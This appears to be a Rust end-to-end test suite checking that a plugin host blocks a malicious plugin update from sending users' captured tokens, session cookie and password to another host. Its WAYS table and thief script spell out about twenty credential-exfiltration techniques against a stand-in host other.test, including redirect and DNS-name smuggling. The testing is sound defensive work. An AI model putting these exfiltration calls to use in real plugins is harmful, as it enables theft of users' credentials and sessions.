//! An update of a plugin that people have logged in with: it sends what their site has handed out to another host, which it
//! may contact as well. Each way is refused.

use serde_json::{Value, json};
use support::{Attacker, SiteOptions};

use super::scripts;
use crate::service::{
    guest,
    logins::{CLOUD, MARKER, Scene, password},
};

const PLUGIN: &str = "members@test";

/// The host that the plugin may contact, and that the secrets are not for.
const OTHER: &str = "http://other.test";

/// Logs in, and keeps two tokens and a cookie. The lines of `WAYS` take their place in the update.
const LOGIN: &str = "
export const login = {
  start(call, screen) { screen.field('user', 'Name').secretField('password', 'Password'); },
  async answer(call, values, screen) {
    await http.post('http://cloud.test/api/login').account('main').json({user: values.user})
      .secretJson('/password', '{password}').captureJson('/access_token', 'access')
      .captureJson('/refresh_token', 'refresh').captureCookie('session', 'session').send();
    screen.done(values.user);
  },
  check() { return vault.has('access', 'main'); },
};
const site = (path) => http.get('http://cloud.test' + path).account('main');
const other = (path) => http.get('http://other.test' + path).account('main');
const post = (url) => http.post(url).account('main');
";

/// Honest: the list of files.
const HONEST: &str = "
export async function resolve(call, out) {
  const list = await site('/api/files').secretHeader('authorization', 'Bearer {access}').send();
  out.title(list.json('/title'));
}
export const preview = resolve;";

/// How the update goes about it, and how the call ends. Those that end well have sent no secret.
const WAYS: [(&str, &str, &str); 21] = [
    (
        "header",
        "other('/').secretHeader('x-token', '{access}').send()",
        "denied",
    ),
    (
        "header-of-login",
        "other('/').secretHeader('authorization', 'Bearer {access}').send()",
        "denied",
    ),
    ("query", "other('/').secretQuery('t', '{access}').send()", "denied"),
    (
        "form",
        "post('http://other.test/').secretForm('t', '{access}').send()",
        "denied",
    ),
    (
        "json",
        "post('http://other.test/').json({}).secretJson('/t', '{access}').send()",
        "denied",
    ),
    (
        "refresh-token",
        "post('http://other.test/').secretForm('t', '{refresh}').send()",
        "denied",
    ),
    (
        "cookie-as-secret",
        "other('/').secretHeader('x-cookie', '{session}').send()",
        "denied",
    ),
    (
        "password",
        "other('/').secretHeader('x-password', '{password}').send()",
        "any",
    ),
    ("jar", "other('/').send()", "ok"),
    (
        "without-account",
        "http.get('http://other.test/').secretHeader('x', '{access}').send()",
        "any",
    ),
    (
        "user-in-url",
        "http.get('http://cloud.test@other.test/').account('main').secretHeader('x', '{access}').send()",
        "denied",
    ),
    (
        "other-port",
        "http.get('http://cloud.test:8080/').account('main').secretHeader('x', '{access}').send()",
        "denied",
    ),
    (
        "redirect-header",
        "site('/go?to=http://other.test/r').secretHeader('authorization', 'Bearer {access}').send()",
        "ok",
    ),
    (
        "redirect-query",
        "site('/go?to=http://other.test/r').secretQuery('k', '{access}').send()",
        "denied",
    ),
    (
        "redirect-query-of-cookie",
        "site('/go?to=http://other.test/r').secretQuery('k', '{session}').send()",
        "denied",
    ),
    (
        "redirect-body",
        "post('http://cloud.test/go?status=307&to=http://other.test/r').secretForm('k', '{access}').send()",
        "internal",
    ),
    (
        "redirect-json",
        "post('http://cloud.test/go?status=308&to=http://other.test/r').json({}).secretJson('/k', '{access}').send()",
        "internal",
    ),
    (
        "redirect-path",
        "site('/go').secretQuery('to', 'http://other.test/{session}').send()",
        "denied",
    ),
    (
        "dns-name",
        "http.get('http://{session}.other.test/').account('main').send()",
        "any",
    ),
    (
        "dns-name-by-redirect",
        "site('/go').secretQuery('to', 'http://{session}.other.test/').send()",
        "denied",
    ),
    (
        "echo",
        "site('/echo').secretHeader('x', '{access} {session}').secretQuery('q', '{access}').send()",
        "ok",
    ),
];

/// The update: `path` of the URL says which way.
fn thief() -> String {
    let ways = WAYS.map(|(name, ask, _)| format!("'{name}': () => {ask}"));
    format!(
        "{LOGIN}
const ways = {{{}}};
export async function resolve(call, out) {{
  const answer = await ways[call.url.searchParams.get('way')]();
  const seen = [answer.url, answer.text(), answer.header('set-cookie'), answer.header('location')];
  log.info(...seen);
  storage.set('seen', seen);
  await http.post('http://other.test/seen').json({{seen, before: storage.get('seen')}}).send();
  out.title('done');
}}
export const preview = resolve;",
        ways.join(",\n")
    )
}

fn manifest(version: &str, bound: &[&str]) -> Value {
    scripts::manifest(
        PLUGIN,
        "",
        json!({
            "version": version,
            "capabilities": {
                "resolver": { "match": ["*://cloud.test/*"], "multi": true }, "preview": true,
                "login": { "slots": [{ "id": "main", "title": "Account", "modes": ["password"] }] },
            },
            "permissions": {
                "hosts": [CLOUD, OTHER],
                "secrets": { "access": bound, "refresh": bound, "session": bound, "password": bound },
            },
        }),
    )
}

/// A service whose user has logged in with the honest version.
fn logged_in(attacker: &Attacker) -> Scene {
    let scene = Scene::at(SiteOptions::new(MARKER), &[("other.test", attacker.port())]);
    let script = format!("{LOGIN}{HONEST}");
    scripts::install(
        scene.service(),
        &scripts::archive(&scene.home, "honest", &manifest("1.0.0", &[CLOUD]), &script),
    );
    scene.log_in(
        PLUGIN,
        "password",
        &["user=ann", &format!("password={}", password("ann"))],
    );
    assert_eq!(preview(&scene, "/files")["name"], "Files of Ann");
    scene
}

fn preview(scene: &Scene, path: &str) -> Value {
    scripts::preview(scene.service(), &format!("{CLOUD}{path}"))
}

/// Asserts that no secret of the site has come to another host, not even as a name to be looked up.
#[track_caller]
fn assert_safe(scene: &Scene, attacker: &Attacker, what: &str) {
    assert!(scene.site.secrets().len() > 3, "the site has handed out secrets");
    for text in [MARKER.to_owned()].into_iter().chain(scene.site.secrets()) {
        assert_eq!(attacker.received(&text), [], "{what}");
    }
    let elsewhere = scene
        .asked_for()
        .into_iter()
        .filter(|target| !target.starts_with(CLOUD));
    let told: Vec<_> = elsewhere.filter(|target| target.contains(MARKER)).collect();
    assert!(told.is_empty(), "{what}: {told:?}");
}

#[test]
fn an_update_that_sends_captured_secrets_elsewhere_is_refused_in_every_way() {
    let attacker = Attacker::start();
    let scene = logged_in(&attacker);
    let update = scripts::archive(&scene.home, "thief", &manifest("1.0.1", &[CLOUD]), &thief());
    scripts::install(scene.service(), &update);
    assert_eq!(scripts::plugin(scene.service(), PLUGIN)["version"], "1.0.1");
    for (way, _, end) in WAYS {
        preview(&scene, &format!("/steal?way={way}"));
        let calls = scripts::calls(scene.service(), PLUGIN);
        let last = calls.iter().rev().find(|call| call["action"] == "preview");
        let code = last.map_or("none", |call| call["code"].as_str().unwrap_or("none"));
        assert!(
            code == end || (end == "any" && code != "none"),
            "{way} ended with {code} instead of {end}"
        );
        assert_safe(&scene, &attacker, way);
    }
    // The attack is not in vain for another reason: what ends well has reached the other host.
    assert!(attacker.seen().len() >= 3, "{:?}", attacker.seen());
    // The account is what it was.
    assert_eq!(scene.accounts(PLUGIN), [("main".to_owned(), "ann".to_owned())]);
}

#[test]
fn a_link_with_a_secret_to_another_host_is_not_downloaded() {
    let attacker = Attacker::start();
    let scene = logged_in(&attacker);
    let script = format!(
        "{LOGIN}
export async function resolve(call, out) {{
  out.add('f', 'f.bin').link(new Link('http://other.test/f.bin').account('main')
    .secretHeader('authorization', 'Bearer {{access}}').header('x', '{{access}}'));
}}"
    );
    let mut update = manifest("1.0.1", &[CLOUD]);
    update["capabilities"]["preview"] = false.into();
    scripts::install(
        scene.service(),
        &scripts::archive(&scene.home, "thief", &update, &script),
    );
    let id = scene.service().create(&json!({"url": format!("{CLOUD}/steal")}));
    let mut task = Value::Null;
    e2e::service::wait_until("the task has ended", || {
        task = scene.service().task(&id);
        task["status"] == 3 || task["status"] == 4
    });
    let why = task["errorMessage"].as_str().unwrap_or_default();
    assert!(
        task["status"] == 4 && why.contains("access") && why.contains("other.test"),
        "{task}"
    );
    assert_safe(&scene, &attacker, "a link");
}

#[test]
fn an_update_that_wants_the_secrets_for_another_host_asks_first() {
    let attacker = Attacker::start();
    let scene = logged_in(&attacker);
    let archive = scripts::archive(&scene.home, "thief", &manifest("1.0.1", &[CLOUD, OTHER]), &thief());
    let offered = guest::upload(&scene.service().url(), &archive).expect("the answer is JSON");
    assert!(offered["pendingConsent"].is_string(), "{offered}");
    preview(&scene, "/steal?way=header");
    assert_safe(&scene, &attacker, "without consent");
}
